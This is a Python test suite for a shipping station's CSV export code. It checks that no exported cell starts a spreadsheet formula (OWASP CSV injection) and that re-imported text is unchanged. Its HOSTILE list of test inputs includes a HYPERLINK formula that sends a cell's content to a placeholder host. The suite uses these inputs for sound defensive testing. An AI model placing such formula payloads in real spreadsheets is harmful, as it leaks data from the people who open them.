"""No cell the station writes to a CSV starts a spreadsheet formula (OWASP CSV
injection), and the importers that read the station's own exports back get every
text exactly as it was."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from pathlib import Path

import sqlite_utils
from hypothesis import given
from hypothesis import strategies as st

from station.cli import main
from station.commands.carriers import rates_csv
from station.core.carriers import Carrier
from station.core.formulas import FORMULA_STARTS, neutralised, restored
from station.core.rates import Rate, parse_rates_csv
from station.importers.carriers import carriers_csv, parse_carriers
from station.importers.table import UTF8_BOM, table_from_bytes
from station.store.catalogue import CarrierEntry
from tests.shipments_factory import make_shipment

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = ('=HYPERLINK("http://x/?"&A2)', "+1+2", "-2+3", "@SUM(1)", "\t=1", "\r=1", "'=1")
# Text a cell can hold: no NUL (not CSV text) and no lone surrogate (not UTF-8).
CELL_CHARS = st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00")
texts = st.text(CELL_CHARS, max_size=30)


def cells_of(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell or cell[0] not in FORMULA_STARTS, cell


@given(texts)
def test_neutralised_text_never_starts_a_formula_and_is_restored_exactly(text: str) -> None:
    written = neutralised(text)
    assert not written or written[0] not in FORMULA_STARTS
    assert restored(written) == text


def test_numbers_stay_numbers() -> None:
    assert neutralised(-5) == -5 and neutralised(-0.5) == -0.5
    assert neutralised("-5") == "'-5"


names = st.text(CELL_CHARS, min_size=1, max_size=30).map(str.strip).filter(bool)


@given(
    st.lists(
        st.tuples(names, st.text(CELL_CHARS, max_size=30).map(str.strip), st.booleans()),
        min_size=1,
        max_size=5,
    )
)
def test_carriers_export_reads_back_exactly_and_never_starts_a_formula(rows) -> None:
    patterns = (r"^\d{12}$", r"-?\d{12}", r"@\d{3}", r"=\d+", r"'X\d+", r"\d{12,15}")
    entries = [
        CarrierEntry(
            Carrier(f"C{i}", zh, en, patterns[i % len(patterns)], "", ("standard",)), active
        )
        for i, (zh, en, active) in enumerate(rows)
    ]
    data = UTF8_BOM + carriers_csv(entries).encode("utf-8")
    assert_no_formula(cells_of(data))
    preview = parse_carriers(table_from_bytes(data), {})
    assert preview.problems == []
    assert preview.entries == entries


@given(st.lists(texts.map(str.strip), min_size=1, max_size=4))
def test_rates_export_reads_back_exactly(zones: list[str]) -> None:
    rates = [
        Rate("ZTO", "standard", zone or "江苏", ("江苏",), 1000, 500 + i, 100)
        for i, zone in enumerate(zones)
    ]
    text = rates_csv(rates)
    assert_no_formula(cells_of(text.encode()))
    read, problems = parse_rates_csv(text)
    assert problems == [] and read == rates


def test_manifest_export_and_throughput_neutralise_names_and_order_numbers(
    db: sqlite_utils.Database, data_dir: Path, tmp_path: Path
) -> None:
    noon = datetime.now().astimezone().replace(hour=12, minute=0, second=0, microsecond=0)
    for n, text in enumerate(HOSTILE):
        make_shipment(db, noon, packer=text, station=text, order_no=f"{text}{n}", weight_g=400)
    assert (
        main(
            [
                "--data-dir",
                str(data_dir),
                "carriers",
                "set",
                "--technician",
                "ZTO",
                "--name-zh",
                "=1+2",
            ]
        )
        == 0
    )
    outs = {
        "manifest": tmp_path / "m.csv",
        "throughput": tmp_path / "t.csv",
        "export": tmp_path / "e.csv",
    }
    base = ["--data-dir", str(data_dir)]
    assert (
        main([*base, "report", "manifest", "--carrier", "ZTO", "--out", str(outs["manifest"])]) == 0
    )
    assert main([*base, "report", "throughput", "--out", str(outs["throughput"])]) == 0
    assert (
        main(
            [
                *base,
                "sync",
                "export-csv",
                "--since",
                "2000-01-01",
                "--out",
                str(outs["export"]),
            ]
        )
        == 0
    )
    for name, path in outs.items():
        rows = cells_of(path.read_bytes())
        assert_no_formula(rows)
        flat = {restored(cell) for row in rows for cell in row}
        if name == "export":
            assert {f"{t}{n}" for n, t in enumerate(HOSTILE)} <= flat and "=1+2" in flat
        else:
            assert set(HOSTILE) <= flat, name
    manifest = cells_of(outs["manifest"].read_bytes())
    assert all(row[3] == "400" for row in manifest[1:])


def test_every_csv_writer_of_the_station_neutralises_its_rows() -> None:
    """A new CSV writer must go through `neutralised_row` too."""
    for path in sorted((ROOT / "station").rglob("*.py")) + sorted(
        (ROOT / "printers").rglob("*.py")
    ):
        source = path.read_text(encoding="utf-8")
        if "csv.writer(" in source or "csv.DictWriter(" in source:
            assert "neutralised_row(" in source, path
